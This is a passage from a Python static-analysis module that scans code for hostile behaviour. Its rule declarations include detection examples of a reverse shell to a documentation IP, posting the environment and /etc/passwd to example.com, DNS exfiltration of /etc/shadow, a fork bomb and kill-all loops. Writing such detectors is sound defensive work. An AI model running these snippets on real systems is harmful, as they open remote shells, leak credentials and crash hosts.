"""Python, read through its AST: what it imports, what it calls (through any alias, ``getattr`` or
``__import__``), the shell commands it hands to ``os.system`` and ``subprocess`` (read by the shell
analyzer), the paths it writes, deletes and reads, and the code it builds and executes.

Strings are folded before they are judged: ``'o' + 's'``, ``'metsys'[::-1]``, ``''.join(chr(c) ...)``,
``bytes.fromhex``, base64, base32, base85, rot13 and zlib of literals are decoded, so
``exec(base64.b64decode('...'))`` is judged by what it decodes to, and ``getattr(os, 'sys' + 'tem')``
is ``os.system``. Executing text that cannot be folded is a finding of its own.
"""

from __future__ import annotations

import ast
import base64
import codecs
import functools
import shlex
import zlib
from collections.abc import Callable, Iterator
from enum import IntEnum
from typing import Any

from airlock.models import Risk
from airlock.policy import shell, shell_rules
from airlock.policy.paths import Place, kind
from airlock.policy.patterns import Findings, declare

__all__ = ["analyze"]

PYTHON = "python"
_C, _H, _M = Risk.CRITICAL, Risk.HIGH, Risk.MEDIUM


_p = functools.partial(declare, PYTHON)


UNPARSED = _p(
    "py.unparsed",
    Risk.LOW,
    "Python that does not parse: none of it runs (CPython compiles the whole of it first)",
    "def f(:\n  pass",
    benign=("def f():\n    pass",),
)
DYNAMIC_EXEC = _p(
    "py.dynamic-exec",
    _H,
    "executes code built when it runs",
    "exec(input())",
    "eval(data['expr'])",
    "code = compile(src, 'x', 'exec')",
    benign=("exec('x = 1')", "ast.literal_eval(s)"),
)
DECODE_EXEC = _p(
    "py.decode-exec",
    _H,
    "decodes a payload and executes it",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "exec(codecs.decode('cevag(1)', 'rot13'))",
    "exec(zlib.decompress(blob))",
    "eval(bytes.fromhex(h).decode())",
    benign=("print(base64.b64decode('aGk='))",),
)
DYNAMIC_COMMAND = _p(
    "py.dynamic-command",
    _H,
    "runs a program whose name is computed when it runs",
    "subprocess.run([tool, '-rf', '/x'])",
    "os.system(cmd)",
    "os.execvp(prog, args)",
    benign=("subprocess.run(['ls', '-l', path])",),
)
DYNAMIC_IMPORT = _p(
    "py.dynamic-import",
    _H,
    "imports a module whose name is computed when it runs",
    "m = __import__(name)",
    "importlib.import_module(mod)",
    benign=("importlib.import_module('json')",),
)
COMPUTED_ATTR = _p(
    "py.computed-attribute",
    _H,
    "reaches into a system module by a computed name",
    "getattr(os, name)('ls')",
    "getattr(__builtins__, n)",
    benign=("getattr(obj, name)",),
)
INTROSPECTION = _p(
    "py.introspection",
    _H,
    "digs through interpreter internals (a classic way out of a sandbox)",
    "().__class__.__bases__[0].__subclasses__()",
    "f.__globals__['os']",
    "globals()['__builtins__']",
    "sys._getframe(1).f_globals",
    benign=("print(obj.__class__.__name__)",),
)
NATIVE = _p(
    "py.native",
    _H,
    "calls native code directly (ctypes, cffi)",
    "import ctypes\nctypes.CDLL('libc.so.6')",
    "from cffi import FFI",
    benign=("import json",),
)
NETWORK = _p(
    "py.network",
    _M,
    "uses the network",
    "import socket",
    "import requests\nrequests.get('https://example.com')",
    "from urllib.request import urlopen",
    benign=("import urllib.parse",),
)
REVERSE_SHELL = _p(
    "py.reverse-shell",
    _C,
    "connects a shell to the network (a reverse shell)",
    "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\n"
    "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
    "import socket,subprocess\ns=socket.create_connection(('203.0.113.5',1))\n"
    "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())",
    benign=("import socket\nprint(socket.gethostname())",),
)
ENV_DUMP = _p(
    "py.env-dump",
    _M,
    "reads the whole environment",
    "print(dict(os.environ))",
    "json.dumps(os.environ.copy())",
    benign=("os.environ.get('HOME')",),
)
EXFIL = _p(
    "py.exfiltration",
    _H,
    "sends the environment or credentials over the network",
    "import requests, os\nrequests.post('https://example.com', json=dict(os.environ))",
    "import requests\nrequests.post('https://example.com', files={'f': open('/etc/passwd', 'rb')})",
    "import socket\nd = open('/etc/shadow').read().encode().hex()\nsocket.gethostbyname(f'{d[:60]}.example.com')",
    benign=(
        "import requests\nrequests.get('https://api.example.com/items')",
        "import requests\nrequests.post('https://api.example.com/items', json={'n': 1})",
        "import socket\nsocket.gethostbyname('example.com')",
    ),
)
FORK_BOMB = _p(
    "py.fork-bomb",
    _C,
    "forks in a loop with no end (a fork bomb)",
    "import os\nwhile True:\n    os.fork()",
    "import os\nfor _ in iter(int, 1):\n    os.fork()",
    benign=("import os\npid = os.fork()",),
)
SPAWN_LOOP = _p(
    "py.spawn-loop",
    _H,
    "starts processes in a loop with no end",
    "import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__])",
    benign=("for n in range(3):\n    subprocess.run(['echo', str(n)])",),
)
SETUID = _p("py.setuid", _H, "changes its user or group ids", "os.setuid(0)", "os.setresgid(0, 0, 0)")
DESERIALIZE = _p(
    "py.unsafe-load",
    _H,
    "unpickles data it did not make (unpickling runs code)",
    "import pickle, base64\npickle.loads(base64.b64decode(blob))",
    "marshal.loads(data)",
    benign=("json.loads(text)",),
)
KILL_ALL = _p(
    "py.kill-all",
    _H,
    "signals every process it can",
    "os.kill(-1, 9)",
    "os.killpg(0, signal.SIGKILL)",
    "import os\nfor entry in os.listdir('/proc'):\n    if entry.isdigit():\n        os.kill(int(entry), 9)",
    benign=("os.kill(pid, signal.SIGTERM)",),
)

_NETWORK_MODULES = frozenset(
    {
        "socket",
        "requests",
        "urllib.request",
        "urllib3",
        "http.client",
        "httpx",
        "aiohttp",
        "ftplib",
        "smtplib",
        "telnetlib",
        "paramiko",
        "websocket",
        "websockets",
        "pycurl",
    }
)
_NATIVE_MODULES = frozenset({"ctypes", "cffi", "_ctypes"})
_SYSTEM_MODULES = frozenset(
    {
        "os",
        "subprocess",
        "sys",
        "builtins",
        "ctypes",
        "socket",
        "shutil",
        "pty",
        "posix",
        "importlib",
        "__builtins__",
        "commands",
        "pickle",
        "marshal",
    }
)
_SHELL_CALLS = frozenset(
    {
        "os.system",
        "os.popen",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "commands.getoutput",
        "asyncio.create_subprocess_shell",
        "os.popen2",
        "os.popen3",
    }
)
_ARGV_CALLS = frozenset(
    {
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
        "asyncio.create_subprocess_exec",
        "pty.spawn",
        "os.execv",
        "os.execve",
        "os.execvp",
        "os.execvpe",
        "os.execl",
        "os.execle",
        "os.execlp",
        "os.execlpe",
        "os.spawnv",
        "os.spawnvp",
        "os.spawnl",
        "os.spawnlp",
        "os.posix_spawn",
        "os.posix_spawnp",
    }
)
_EXECS = frozenset({"exec", "eval", "compile", "builtins.exec", "builtins.eval", "builtins.compile"})
_DECODERS = frozenset(
    {
        "base64.b64decode",
        "base64.b32decode",
        "base64.b16decode",
        "base64.a85decode",
        "base64.b85decode",
        "base64.decodebytes",
        "base64.urlsafe_b64decode",
        "codecs.decode",
        "zlib.decompress",
        "gzip.decompress",
        "bz2.decompress",
        "lzma.decompress",
        "bytes.fromhex",
        "binascii.unhexlify",
        "binascii.a2b_base64",
        "marshal.loads",
        "pickle.loads",
    }
)
_WRITES = {
    "os.remove": 0,
    "os.unlink": 0,
    "os.rmdir": 0,
    "os.removedirs": 0,
    "os.rename": 1,
    "os.replace": 1,
    "os.symlink": 1,
    "os.link": 1,
    "os.truncate": 0,
    "os.mknod": 0,
    "os.makedirs": 0,
    "os.mkdir": 0,
    "os.chown": 0,
    "os.lchown": 0,
    "shutil.copy": 1,
    "shutil.copy2": 1,
    "shutil.copyfile": 1,
    "shutil.copytree": 1,
    "shutil.move": 1,
    "shutil.chown": 0,
}
_PATH_WRITES = frozenset(
    {
        "write_text",
        "write_bytes",
        "unlink",
        "rmdir",
        "touch",
        "symlink_to",
        "hardlink_to",
        "mkdir",
        "chmod",
        "rename",
        "replace",
    }
)
_FORKS = frozenset({"os.fork", "os.forkpty", "pty.fork"})
_SECRET_PLACES = (Place.CREDENTIAL, Place.PRIVILEGE, Place.HISTORY)  #: reading these and sending is exfiltration
_PATH_FIRST = frozenset(
    {"shutil.rmtree", "open", "io.open", "builtins.open", "os.open", "runpy.run_path", "runpy.run_module"}
)
_ARCHIVERS = frozenset({"add", "write", "make_archive", "copytree"})  #: tarfile, zipfile, shutil: a whole tree
_HTTP_SENDS = frozenset({"post", "put", "patch", "request"})
_DNS_LOOKUPS = frozenset({"socket.gethostbyname", "socket.gethostbyname_ex", "socket.getaddrinfo"})
_SPAWNS = _ARGV_CALLS | _SHELL_CALLS | frozenset({"multiprocessing.Process"})
_WALKERS = frozenset({"walk", "rglob", "glob", "iglob", "iterdir", "listdir", "scandir"})
_PATH_FUNCTIONS: dict[str, Callable[[list[str]], str]] = {
    "os.path.expanduser": lambda a: a[0],
    "os.path.join": lambda a: "/".join(a),
    "posixpath.join": lambda a: "/".join(a),
    "os.path.abspath": lambda a: a[0],
    "os.path.realpath": lambda a: a[0],
    "pathlib.Path": lambda a: "/".join(a),
    "pathlib.PurePath": lambda a: "/".join(a),
    "str": lambda a: a[0],
    "os.fspath": lambda a: a[0],
}
_FOLD = "$__VALUE__"  #: what an unknown part of a folded string stands as (a shell variable: computed)


def analyze(code: str, findings: Findings) -> None:
    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError) as exc:
        findings.add(UNPARSED, getattr(exc, "lineno", None) or 1, str(exc))
        return
    _Reader(findings).read(tree)


class _Reader:
    def __init__(self, findings: Findings) -> None:
        self.findings = findings
        self.aliases: dict[str, str] = {}  # local name -> dotted module or function name
        self.constants: dict[str, ast.expr] = {}  # names assigned exactly once
        self.imported: set[str] = set()
        self.facts: set[str] = set()  # "socket", "dup2", "env-dump": joined at the end
        self.downloaded: set[str] = set()  # files it downloads (run later: download-and-run)

    def read(self, tree: ast.Module) -> None:
        for node, in_loop in _walk(tree):
            handler = _HANDLERS.get(type(node))
            if handler is not None:
                handler(self, node, in_loop)
        self.conclude()

    # -- nodes --------------------------------------------------------------------------------------
    def import_(self, node: ast.Import, in_loop: Loop) -> None:
        for alias in node.names:
            self.imports(alias.name, alias.asname or alias.name.split(".")[0], node.lineno, alias.asname is None)

    def import_from(self, node: ast.ImportFrom, in_loop: Loop) -> None:
        for alias in node.names if node.module else ():
            self.imports(node.module or "", None, node.lineno, False)
            self.aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"

    def assign(self, node: ast.Assign, in_loop: Loop) -> None:
        if len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
            self.constants[node.targets[0].id] = node.value  # the latest value, in source order
            self.assigned(node.targets[0].id, node.value)

    def for_(self, node: ast.For | ast.AsyncFor, in_loop: Loop) -> None:
        self.loop_over(node.target, node.iter)

    def attribute(self, node: ast.Attribute, in_loop: Loop) -> None:
        if node.attr in _DUNDERS:
            self.findings.add(INTROSPECTION, node.lineno, node.attr)

    def subscript(self, node: ast.Subscript, in_loop: Loop) -> None:
        if isinstance(node.slice, (ast.Constant, ast.BinOp)) and _folded(self, node.slice) in _BUILTINS_KEYS:
            self.findings.add(INTROSPECTION, node.lineno, "__builtins__")

    def assigned(self, name: str, value: ast.expr) -> None:
        """``run = getattr(os, 'sys' + 'tem')``, ``rm = shutil.rmtree``, ``fn = os.__dict__['system']``:
        ``run``, ``rm`` and ``fn`` are those functions now."""
        if isinstance(value, (ast.Attribute, ast.Call, ast.Name, ast.Subscript)):
            resolved = self.name_of(value)
            if resolved is not None and not resolved.endswith("()") and resolved.split(".")[0] in _SYSTEM_MODULES:
                self.aliases[name] = resolved

    def loop_over(self, target: ast.expr, iterable: ast.expr) -> None:
        """``for p in Path('/etc').rglob('*')``, ``for root, _, files in os.walk('/')``: the loop
        variable stands for a path under the one walked (its first element, for a literal list);
        ``for p in glob.glob('/proc/*/environ')``: for a path the pattern matches."""
        calls = [n for n in ast.walk(iterable) if isinstance(n, ast.Call)]
        walkers = {(self.name_of(call.func) or "").rsplit(".", 1)[-1] for call in calls} & _WALKERS
        texts = [text for n in ast.walk(iterable) if isinstance(n, ast.expr) and (text := _folded(self, n))]
        where = next((t for t in texts if t.startswith(("/", "~"))), texts[0] if texts else None)
        if where is None:
            return
        if walkers & {"glob", "iglob"} and "*" in where.rstrip("*"):
            value = where.replace("*", "x")
        elif walkers:
            value = where.rstrip("*").rstrip("/") + "/x"
        else:
            value = where
        names = [target] if isinstance(target, ast.Name) else list(getattr(target, "elts", []))
        for index, name in enumerate(names):
            if isinstance(name, ast.Name) and name.id not in self.constants:
                text = value if name is target else where if index == 0 else "x"  # os.walk: root, dirs, files
                self.constants[name.id] = ast.Constant(value=text)

    def imports(self, module: str, name: str | None, line: int, plain: bool) -> None:
        top = module.split(".")[0]
        if name is not None:
            self.aliases[name] = module if not plain else top
        self.imported.add(module)
        if module in _NATIVE_MODULES or top in _NATIVE_MODULES:
            self.findings.add(NATIVE, line, module)
        if module in _NETWORK_MODULES or top in ("requests", "httpx", "aiohttp", "paramiko", "urllib3"):
            self.facts.add("network")
            if top == "socket":
                self.facts.add("socket")
            self.findings.add(NETWORK, line, module)

    def call(self, node: ast.Call, in_loop: Loop) -> None:
        name = self.name_of(node.func)
        line = node.lineno
        if name is None:
            return
        if name in _EXECS:
            self.executes(node, name, line)
        elif name in ("__import__", "importlib.import_module", "builtins.__import__"):
            self.dynamic_import(node, line)
        elif name in ("getattr", "builtins.getattr"):
            self.getattr(node, line)
        elif name in _SHELL_CALLS or (name in _ARGV_CALLS and _keyword(node, "shell") is True):
            self.shell_text(node, name, line)
        elif name in _ARGV_CALLS:
            self.argv(node, name, line)
        if _sends(self, node, name):
            self.facts.add("send")
        if name in _FORKS and in_loop is not Loop.NONE:
            self.findings.add(FORK_BOMB, line, name)
        elif name in _SPAWNS and in_loop is Loop.FOREVER:
            self.findings.add(SPAWN_LOOP, line, name)
        self.effects(node, name, line)

    def effects(self, node: ast.Call, name: str, line: int) -> None:
        """Paths, ids, signals, environment and sockets: what a call does to the world."""
        first = _a_path(self, node.args[0]) if node.args and name in _PATH_FIRST else None
        last = name.rpartition(".")[2]
        if name == "shutil.rmtree" and first is not None:
            self.delete(first, line)
        elif name in _WRITES and len(node.args) > _WRITES[name]:
            target = _folded(self, node.args[_WRITES[name]])
            if target is not None:
                self.written(target, line, name)
        elif name in ("open", "io.open", "builtins.open", "os.open") and first is not None:
            mode = _folded(self, node.args[1]) if len(node.args) > 1 else _keyword_text(self, node, "mode")
            self.opened(first, mode or "r", line, name == "os.open" and len(node.args) > 1)
        elif name in ("os.chmod", "os.lchmod") and len(node.args) > 1:
            self.chmod(node, line)
        elif name.startswith(("os.set", "posix.set")) and name.split(".")[1] in _SETIDS:
            self.findings.add(SETUID, line, name)
        elif name in ("os.kill", "os.killpg") and node.args and _int(node.args[0]) in (-1, 0):
            self.findings.add(KILL_ALL, line, f"{name}({_int(node.args[0])}, ...)")
        elif name in ("os.kill", "os.killpg") and node.args and _from_proc(self, node.args[0]):
            self.findings.add(KILL_ALL, line, f"{name} of every pid listed in /proc")
        elif name in ("runpy.run_path", "runpy.run_module") and first is not None and first in self.downloaded:
            self.findings.add(shell_rules.DOWNLOAD_EXEC, line, "runs the file it downloaded")
        elif last in _ARCHIVERS and any(
            kind(path) in _SECRET_PLACES or kind(path) is Place.HOME
            for arg in [*node.args, *(k.value for k in node.keywords)]
            if (path := _a_path(self, arg)) is not None
        ):
            self.facts.add("secret")
        elif name in ("os.dup2", "pty.spawn") or (name.endswith(".fileno") and "socket" in self.facts):
            self.facts.add("dup2" if name == "os.dup2" else "shell" if name == "pty.spawn" else "fileno")
        elif name.endswith(".open") and isinstance(node.func, ast.Attribute):
            target = _path_literal(self, node.func.value)
            mode = _folded(self, node.args[0]) if node.args else _keyword_text(self, node, "mode")
            if target is not None:
                self.opened(target, mode or "r", line, False)
        elif name in ("pickle.loads", "marshal.loads", "dill.loads", "cloudpickle.loads") and node.args:
            if (
                not isinstance(node.args[0], ast.Name)
                or any(isinstance(n, ast.Call) and self.name_of(n.func) in _DECODERS for n in ast.walk(node.args[0]))
                or name != "pickle.loads"
            ):
                self.findings.add(DESERIALIZE, line, name)
        elif name in ("os.chroot", "os.setns", "os.unshare"):
            self.findings.add(shell_rules.ESCAPE_CHROOT if name == "os.chroot" else shell_rules.ESCAPE_NS, line, name)
        elif name in ("urllib.request.urlretrieve", "wget.download") and len(node.args) > 1:
            if (target := _folded(self, node.args[1])) is not None:
                self.downloaded.add(target)
        elif last in _PATH_WRITES and isinstance(node.func, ast.Attribute):
            self.path_method(node.func, line)
        elif last in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
            target = _path_literal(self, node.func.value)
            if target is not None:
                shell_rules.read(target, line, self.findings)
        if (
            name in ("dict", "json.dumps", "print", "str", "repr", "os.environ.copy", "os.environ.items")
            and any(self.name_of(arg) == "os.environ" for arg in node.args)
        ) or name in ("os.environ.copy", "os.environ.items"):
            self.facts.add("env-dump")
            self.findings.add(ENV_DUMP, line, name)

    # -- calls that run code or commands -------------------------------------------------------------
    def executes(self, node: ast.Call, name: str, line: int) -> None:
        if not node.args:
            return
        arg = node.args[0]
        decoding = any(self.name_of(n.func) in _DECODERS for n in ast.walk(arg) if isinstance(n, ast.Call))
        text = _fold(self, arg)
        if decoding:
            self.findings.add(DECODE_EXEC, line, name)
        if text is None or _FOLD in text:
            if not decoding:
                self.findings.add(DYNAMIC_EXEC, line, name)
            return
        from airlock.policy.analysis import analyze_into

        saved = self.findings.offset
        self.findings.offset += line - 1
        try:
            analyze_into(text, "python", self.findings)
        finally:
            self.findings.offset = saved

    def dynamic_import(self, node: ast.Call, line: int) -> None:
        module = _folded(self, node.args[0]) if node.args else None
        if module is None:
            self.findings.add(DYNAMIC_IMPORT, line)
        else:
            self.imports(module, None, line, False)

    def getattr(self, node: ast.Call, line: int) -> None:
        if len(node.args) < 2:
            return
        owner = self.name_of(node.args[0]) or ""
        attribute = _folded(self, node.args[1])
        if attribute is None and (owner.split(".")[0] in _SYSTEM_MODULES or owner == "__builtins__"):
            self.findings.add(COMPUTED_ATTR, line, owner)
        elif attribute is not None and attribute.startswith("__") and attribute in _DUNDERS | {"__builtins__"}:
            self.findings.add(INTROSPECTION, line, attribute)

    def shell_text(self, node: ast.Call, name: str, line: int) -> None:
        if not node.args:
            return
        arg = node.args[0]
        text = _fold(self, arg)
        if isinstance(arg, (ast.List, ast.Tuple)):
            text = _argv_text(self, arg)
        if text is None or text.startswith(_FOLD):
            self.findings.add(DYNAMIC_COMMAND, line, name)
            if text is None:
                return
        shell.scan(text, self.findings, line)

    def argv(self, node: ast.Call, name: str, line: int) -> None:
        if not node.args:
            return
        arg = node.args[0]
        if name.startswith(("os.exec", "os.spawn", "os.posix_spawn")) and len(node.args) > 1:
            arg = node.args[1] if name.startswith(("os.execv", "os.posix_spawn")) else node.args[0]
        text = _argv_text(self, arg) if isinstance(arg, (ast.List, ast.Tuple)) else _fold(self, arg)
        if text is None or text.startswith(_FOLD):
            self.findings.add(DYNAMIC_COMMAND, line, name)
            return
        if name == "pty.spawn" or (text.split() and text.split()[0].rsplit("/", 1)[-1] in shell_rules.SHELLS):
            self.facts.add("shell")
        if self.downloaded and text.split() and shlex.split(text)[0] in self.downloaded:
            self.findings.add(shell_rules.DOWNLOAD_EXEC, line, "runs the file it downloaded")
        shell.scan(text, self.findings, line)

    # -- paths ----------------------------------------------------------------------------------------
    def delete(self, target: str, line: int) -> None:
        if kind(target) is Place.ROOT or shell_rules.is_top(target):
            self.findings.add(shell_rules.DELETE_ROOT, line, target)
        elif kind(target) is not Place.WORKSPACE:
            self.findings.add(shell_rules.DELETE_OUTSIDE, line, target)

    def written(self, target: str, line: int, name: str) -> None:
        if name in ("os.remove", "os.unlink", "os.rmdir", "os.removedirs") and kind(target) in _PLAIN_OUTSIDE:
            self.findings.add(shell_rules.DELETE_OUTSIDE, line, target)
        else:
            shell_rules.written(target, line, self.findings)

    def opened(self, target: str, mode: str, line: int, flags: bool) -> None:
        if flags or any(letter in mode for letter in "wax+"):
            shell_rules.written(target, line, self.findings)
        else:
            shell_rules.read(target, line, self.findings)
            if kind(target) in _SECRET_PLACES:
                self.facts.add("secret")

    def chmod(self, node: ast.Call, line: int) -> None:
        mode = _int(node.args[1])
        text = ast.unparse(node.args[1])
        if (mode is not None and mode & 0o6000) or "S_ISUID" in text or "S_ISGID" in text:
            self.findings.add(shell_rules.SETUID, line, text)
        target = _folded(self, node.args[0])
        if target is not None and kind(target) in (Place.SYSTEM, Place.ROOT, Place.KERNEL, Place.CREDENTIAL):
            self.findings.add(shell_rules.CHMOD_SYSTEM, line, target)

    def path_method(self, func: ast.Attribute, line: int) -> None:
        target = _path_literal(self, func.value)
        if target is None:
            return
        if func.attr in ("unlink", "rmdir") and kind(target) in _PLAIN_OUTSIDE:
            self.findings.add(shell_rules.DELETE_OUTSIDE, line, target)
        else:
            shell_rules.written(target, line, self.findings)

    # -- names ----------------------------------------------------------------------------------------
    def name_of(self, node: ast.AST) -> str | None:
        """The dotted name a callee or value stands for, through aliases, ``getattr`` and ``__import__``."""
        if isinstance(node, ast.Name):
            return self.aliases.get(node.id, node.id)
        if isinstance(node, ast.Attribute):
            base = self.name_of(node.value)
            return None if base is None else f"{base}.{node.attr}"
        if isinstance(node, ast.Call):
            func = self.name_of(node.func)
            if func in ("__import__", "importlib.import_module") and node.args:
                return _folded(self, node.args[0])
            if func == "getattr" and len(node.args) >= 2:
                base, attribute = self.name_of(node.args[0]), _folded(self, node.args[1])
                return None if base is None or attribute is None else f"{base}.{attribute}"
            return f"{func or '?'}()"  # what a call returns: ``Path(p).write_text`` is "pathlib.Path().write_text"
        if isinstance(node, ast.Subscript) and (owner := _namespace_of(self, node.value)) is not None:
            key = _folded(self, node.slice)
            if key is None:
                self.findings.add(COMPUTED_ATTR, node.lineno, owner)
                return "?"
            return f"{owner}.{key}"
        if isinstance(node, (ast.BinOp, ast.Subscript, ast.Constant, ast.JoinedStr)):
            return "?"
        return None

    def conclude(self) -> None:
        """Findings that need the whole script: a socket with a shell, the environment with a network."""
        if "socket" in self.facts and ("dup2" in self.facts or "shell" in self.facts):
            self.findings.add(REVERSE_SHELL, None, "a socket and a shell in one script")
        if "env-dump" in self.facts and "network" in self.facts:
            self.findings.add(EXFIL, None, "the environment and the network in one script")
        elif "secret" in self.facts and "send" in self.facts:
            self.findings.add(EXFIL, None, "reads credentials or account files and sends data out")


_BUILTINS_KEYS = frozenset({"__builtins__", "__globals__"})
_DUNDERS = frozenset(
    {
        "__subclasses__",
        "__globals__",
        "__code__",
        "__closure__",
        "__builtins__",
        "__mro__",
        "__bases__",
        "f_globals",
        "f_locals",
        "f_back",
        "gi_frame",
        "_getframe",
        "func_globals",
    }
)
_SETIDS = frozenset(
    {"setuid", "setgid", "seteuid", "setegid", "setreuid", "setregid", "setresuid", "setresgid", "setgroups"}
)
_PLAIN_OUTSIDE = (Place.SYSTEM, Place.OTHER, Place.HOME)


class Loop(IntEnum):
    NONE = 0
    SOME = 1
    FOREVER = 2


def _walk(tree: ast.AST) -> Iterator[tuple[ast.AST, Loop]]:
    """Every node that can matter, with the loop it sits in: none, one, or one that never ends.

    Names, constants, operators and import aliases are never visited (no handler reads them on
    their own: their parents do), nor are fields that only hold strings; half of a script's nodes
    are of those kinds. Written out rather than with ``ast.iter_child_nodes``: this is the
    analysis's hot loop."""
    stack: list[tuple[ast.AST, Loop]] = [(tree, Loop.NONE)]
    pop, push = stack.pop, stack.append
    while stack:
        node, in_loop = pop()
        yield node, in_loop
        inner = in_loop
        if isinstance(node, (ast.While, ast.For, ast.AsyncFor)):
            forever = _truthy(node.test) if isinstance(node, ast.While) else _endless(node)
            inner = Loop.FOREVER if forever else max(in_loop, Loop.SOME)
        for name in _child_fields(type(node)):
            value = getattr(node, name, None)
            depth = inner if name == "body" else in_loop
            if type(value) is list:
                for item in reversed(value):
                    if type(item) not in _LEAVES and isinstance(item, ast.AST):
                        push((item, depth))
            elif value is not None and type(value) not in _LEAVES and isinstance(value, ast.AST):
                push((value, depth))


_LEAVES = frozenset(
    {ast.Name, ast.Constant, ast.alias}
    | {
        cls
        for base in (ast.expr_context, ast.operator, ast.unaryop, ast.cmpop, ast.boolop)
        for cls in base.__subclasses__()
    }
)
_SCALAR_FIELDS = frozenset({"ctx", "op", "ops", "id", "attr", "arg", "name", "names", "kind", "level", "module"})
_SCALAR_FIELDS |= {"type_comment", "conversion", "is_async", "lineno", "col_offset"}


_CHILD_FIELDS: dict[type[ast.AST], tuple[str, ...]] = {}


def _child_fields(cls: type[ast.AST]) -> tuple[str, ...]:
    """The fields of a node type that can hold nodes, last first (the stack pops them in order)."""
    fields = _CHILD_FIELDS.get(cls)
    if fields is None:
        fields = _CHILD_FIELDS[cls] = tuple(name for name in reversed(cls._fields) if name not in _SCALAR_FIELDS)
    return fields


def _namespace_of(reader: _Reader, node: ast.expr) -> str | None:
    """``vars(os)`` and ``os.__dict__``: a system module's namespace, indexed by name."""
    if isinstance(node, ast.Call) and reader.name_of(node.func) == "vars" and node.args:
        owner = reader.name_of(node.args[0])
    elif isinstance(node, ast.Attribute) and node.attr == "__dict__":
        owner = reader.name_of(node.value)
    else:
        return None
    return owner if owner is not None and owner.split(".")[0] in _SYSTEM_MODULES else None


def _truthy(test: ast.expr) -> bool:
    return isinstance(test, ast.Constant) and bool(test.value)


def _endless(node: ast.For | ast.AsyncFor) -> bool:
    """``for _ in iter(int, 1)`` and ``itertools.count()``: loops that never end."""
    if isinstance(node.iter, ast.Call):
        func = ast.unparse(node.iter.func)
        return func in ("iter", "itertools.count", "count", "itertools.repeat", "itertools.cycle")
    return False


def _sends(reader: _Reader, node: ast.Call, name: str) -> bool:
    """A call that sends data out: an HTTP body, a DNS name built at run time, a socket write, mail."""
    top, last = name.split(".", 1)[0], name.rsplit(".", 1)[-1]
    if top in ("requests", "httpx", "aiohttp", "urllib3") and last in _HTTP_SENDS:
        return True
    if name in ("urllib.request.urlopen", "urllib.request.Request"):
        return len(node.args) > 1 or any(k.arg == "data" for k in node.keywords)
    if name in _DNS_LOOKUPS:
        return bool(node.args) and _folded(reader, node.args[0]) is None
    if last in ("send", "sendall", "sendto") and "socket" in reader.facts:
        return True
    return last in ("sendmail", "send_message", "storbinary", "storlines")


def _from_proc(reader: _Reader, pid: ast.expr) -> bool:
    """``int(entry)`` where ``entry`` walks ``os.listdir('/proc')``: every process there is."""
    return any(
        isinstance(node, ast.Name) and (_folded(reader, node) or "").startswith("/proc/") for node in ast.walk(pid)
    )


def _keyword(node: ast.Call, name: str) -> object:
    for keyword in node.keywords:
        if keyword.arg == name and isinstance(keyword.value, ast.Constant):
            return keyword.value.value
    return None


def _keyword_text(reader: _Reader, node: ast.Call, name: str) -> str | None:
    value = next((k.value for k in node.keywords if k.arg == name), None)
    return None if value is None else _folded(reader, value)


def _int(node: ast.expr) -> int | None:
    if isinstance(node, ast.Constant) and isinstance(node.value, int):
        return node.value
    if isinstance(node, ast.UnaryOp) and isinstance(node.op, ast.USub) and isinstance(node.operand, ast.Constant):
        value = node.operand.value
        return -value if isinstance(value, int) else None
    return None


def _path_literal(reader: _Reader, node: ast.expr) -> str | None:
    """``Path('/etc/x')``, ``Path.home() / '.bashrc'``: the path, when it folds."""
    folded = _folded(reader, node)
    if folded is not None:
        return folded
    if isinstance(node, ast.Call) and reader.name_of(node.func) in ("pathlib.Path", "Path", "pathlib.PurePath"):
        return _folded(reader, node.args[0]) if node.args else None
    if isinstance(node, ast.Call) and reader.name_of(node.func) in ("pathlib.Path.home", "Path.home"):
        return "~"
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div):
        left, right = _path_literal(reader, node.left), _folded(reader, node.right)
        return None if left is None or right is None else f"{left.rstrip('/')}/{right}"
    if isinstance(node, ast.Name) and node.id in reader.constants:
        return _path_literal(reader, reader.constants[node.id])
    return None


def _argv_text(reader: _Reader, node: ast.List | ast.Tuple) -> str | None:
    parts = [_fold(reader, element) for element in node.elts]
    if not parts or parts[0] is None:
        return None
    return " ".join(shlex.quote(part) if part is not None and _FOLD not in part else _FOLD for part in parts)


def _a_path(reader: _Reader, node: ast.expr) -> str | None:
    """A path, its unknown parts standing as ``x``: ``f'/proc/{pid}/environ'`` is ``/proc/x/environ``."""
    text = _fold(reader, node)
    return None if text is None or text.startswith(_FOLD) else text.replace(_FOLD, "x")


def _folded(reader: _Reader, node: ast.expr) -> str | None:
    """The value of a string expression when it is fully known."""
    text = _fold(reader, node)
    return None if text is None or _FOLD in text else text


def _fold(reader: _Reader, node: ast.expr, depth: int = 0) -> str | None:
    """A string expression's value; unknown parts of f-strings become ``_FOLD``; None if unknowable."""
    if depth > 20:
        return None
    value = _value(reader, node, depth)
    if isinstance(value, bytes):
        return value.decode(errors="replace")
    return value


def _value(reader: _Reader, node: ast.expr, depth: int) -> str | bytes | None:
    if isinstance(node, ast.Constant) and isinstance(node.value, (str, bytes)):
        return node.value
    if isinstance(node, ast.Name) and node.id in reader.constants and depth < 10:
        return _value(reader, reader.constants[node.id], depth + 1)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = _value(reader, node.left, depth + 1), _value(reader, node.right, depth + 1)
        if (isinstance(left, str) and isinstance(right, str)) or (isinstance(left, bytes) and isinstance(right, bytes)):
            return left + right  # type: ignore[operator]
        return None
    if isinstance(node, ast.JoinedStr):
        return "".join(
            part.value if isinstance(part, ast.Constant) and isinstance(part.value, str) else _FOLD
            for part in node.values
        )
    if isinstance(node, ast.Subscript) and reader.name_of(node.value) == "os.environ":
        return "~" if _value(reader, node.slice, depth + 1) == "HOME" else None
    if isinstance(node, ast.Subscript) and isinstance(node.slice, ast.Slice):
